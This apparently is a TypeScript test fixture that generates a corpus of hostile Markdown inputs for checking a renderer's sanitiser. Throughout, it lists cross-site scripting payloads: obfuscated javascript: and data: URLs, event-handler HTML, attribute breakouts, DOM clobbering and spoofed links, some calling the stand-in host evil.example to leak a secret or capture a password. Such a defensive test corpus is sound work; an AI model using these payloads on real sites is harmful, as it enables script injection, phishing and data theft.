/** A text that tries to run code, to load something, or to lead people astray. */
export interface MarkdownAttack {
  readonly name: string;
  readonly text: string;
}

const control = String.fromCodePoint;

const scriptUrls = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  `java${control(0)}script:alert(1)`,
  `${control(1)}javascript:alert(1)`,
  `java${control(0x200b)}script:alert(1)`,
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;&#x61;vascript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&#10;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript\\:alert(1)",
  "javascript:%61lert(1)",
  "javascript://example.com/%0aalert(1)",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "data:application/javascript,alert(1)",
  "file:///etc/passwd",
  "blob:https://example.com/x",
  "filesystem:https://example.com/x",
  "about:blank",
  "view-source:https://example.com",
  "intent://example.com#Intent;end",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example",
  "https:evil.example",
  "https:\\\\evil.example",
  "https://bank.example@evil.example/",
  "https://bank.example\\@evil.example/",
  `https://bank.example/${control(0x202e)}gpj.exe`,
] as const;

const html = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<style>*{background:url(https://evil.example)}</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<base href=https://evil.example/>",
  '<form action="https://evil.example"><input name=password></form>',
  '<div id="root" name="cookie">clobbered</div>',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php alert(1) ?>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext></table><img src=x onerror=alert(1)>",
  "</div></body><script>alert(1)</script>",
] as const;

const places: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `[x]\n\n[x]: ${url}`,
  (url) => `![x]\n\n[x]: <${url}>`,
  (url) => `| [x](${url}) |\n|---|\n| ![x](${url}) |`,
];

const others: readonly MarkdownAttack[] = [
  { name: "a link in a link", text: "[a [b](https://b.example) c](https://a.example)" },
  {
    name: "a link in an image in a link",
    text: "[![[a](https://a.example)](https://b.example/i.png)](https://c.example)",
  },
  {
    name: "a title that breaks out of its attribute",
    text: '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
  },
  {
    name: "alternative text that breaks out",
    text: '![" onerror="alert(1)](https://a.example/x.png)',
  },
  {
    name: "a language that breaks out of its class",
    text: '```"><script>alert(1)</script>\ncode\n```',
  },
  {
    name: "a language that is a property of all objects",
    text: "```constructor\ncode\n```\n\n```__proto__\ncode\n```",
  },
  {
    name: "a label that is a property of all objects",
    text: "[__proto__] [constructor] [toString]",
  },
  {
    name: "a heading that would clobber an id",
    text: "# document\n\n## cookie\n\n# getElementById",
  },
  {
    name: "link text that reads backwards",
    text: `[https://bank.example/${control(0x202e)}moc](https://evil.example)`,
  },
  {
    name: "a remote image that would reveal the reader",
    text: "![x](https://evil.example/pixel.png?secret=1)",
  },
  { name: "an autolinked script", text: "Visit javascript:alert(1) or www.javascript:alert(1)" },
];

/** Every attack we know; none may leave more than text, and links and images that the URL rule allows. */
export const markdownAttacks: readonly MarkdownAttack[] = [
  ...scriptUrls.flatMap((url) =>
    places.map((place) => ({
      name: `${JSON.stringify(url)} as ${JSON.stringify(place("…"))}`,
      text: place(url),
    })),
  ),
  ...html.flatMap((markup) => [
    { name: `${markup} as a block`, text: markup },
    { name: `${markup} in a line`, text: `text ${markup} text` },
    { name: `${markup} in a link`, text: `[${markup}](https://a.example)` },
    { name: `${markup} in a cell`, text: `| ${markup} |\n|---|\n| x |` },
  ]),
  ...others,
];
